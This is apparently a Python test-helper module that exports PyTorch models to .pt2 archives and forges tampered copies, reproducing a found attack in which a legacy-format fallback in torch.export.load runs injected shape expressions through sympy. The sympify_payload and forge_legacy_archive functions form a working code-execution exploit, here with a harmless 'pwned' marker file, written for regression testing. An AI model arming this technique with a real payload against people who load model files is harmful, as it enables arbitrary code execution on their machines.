"""Building .pt2 archives for tests: real torch.export.save output, then what an attacker would change."""

from __future__ import annotations

import io
import json
import warnings
import zipfile
from collections.abc import Callable
from pathlib import Path
from typing import Any

import torch
from torch import nn


def export_to(path: Path, module: nn.Module, shape: tuple[int, ...] = (1, 28, 28), *, decompose: bool = False) -> Path:
    """``torch.export`` with a dynamic batch dimension, exactly as researchers are told to."""
    batch = torch.export.Dim("batch", min=1)
    program = torch.export.export(module, (torch.rand(2, *shape),), dynamic_shapes=({0: batch},))
    if decompose:
        program = program.run_decompositions()
    torch.export.save(program, str(path))
    return path


def rewrite_zip(
    source: Path,
    dest: Path,
    change: Callable[[str, bytes], bytes | None] = lambda name, data: None,
    *,
    drop: Callable[[str], bool] = lambda name: False,
    add: tuple[tuple[str, bytes], ...] = (),
) -> Path:
    """Copies a zip entry by entry: ``change`` may return new bytes, ``drop`` removes, ``add`` appends."""
    with zipfile.ZipFile(source) as old, zipfile.ZipFile(dest, "w") as new:
        for info in old.infolist():
            if drop(info.filename):
                continue
            data = old.read(info)
            replaced = change(info.filename, data)
            new.writestr(info.filename, data if replaced is None else replaced)
        with warnings.catch_warnings():
            warnings.simplefilter("ignore")  # zipfile warns about the duplicate names some tests add
            for name, data in add:
                new.writestr(name, data)
    return dest


def edit_program(source: Path, dest: Path, edit: Callable[[dict[str, Any]], None]) -> Path:
    def change(name: str, data: bytes) -> bytes | None:
        if not name.endswith("/models/model.json"):
            return None
        program = json.loads(data)
        edit(program)
        return json.dumps(program).encode()

    return rewrite_zip(source, dest, change)


def sympify_payload(marker: Path) -> str:
    """A string that ``sympy.sympify`` executes: it creates ``marker``."""
    return f"__import__('pathlib').Path({str(marker)!r}).write_text('pwned')"


def root_of(path: Path) -> str:
    with zipfile.ZipFile(path) as archive:
        return archive.namelist()[0].split("/")[0]


def program_of(path: Path) -> dict:
    with zipfile.ZipFile(path) as archive:
        return json.loads(archive.read(f"{root_of(path)}/models/model.json"))


def forge_legacy_archive(benign: Path, dest: Path, marker: Path) -> Path:
    """The attack that was found: drop ``archive_version`` and add the older format's top-level files.

    torch.export.load then fails on the current layout, falls back to its legacy reader, and that
    reader ``sympify``-s the shape expressions of ``serialized_exported_program.json``.
    """
    program = program_of(benign)
    for value in program["graph_module"]["graph"]["tensor_values"].values():
        for size in value["sizes"]:
            if "as_expr" in size:
                size["as_expr"]["expr_str"] = sympify_payload(marker)
    empty, inputs = io.BytesIO(), io.BytesIO()
    torch.save({}, empty)
    torch.save(((), {}), inputs)
    legacy = (
        ("version", b"8.20"),
        ("serialized_exported_program.json", json.dumps(program).encode()),
        ("serialized_state_dict.pt", empty.getvalue()),
        ("serialized_constants.pt", empty.getvalue()),
        ("serialized_example_inputs.pt", inputs.getvalue()),
    )
    return rewrite_zip(benign, dest, drop=lambda name: name.endswith("/archive_version"), add=legacy)
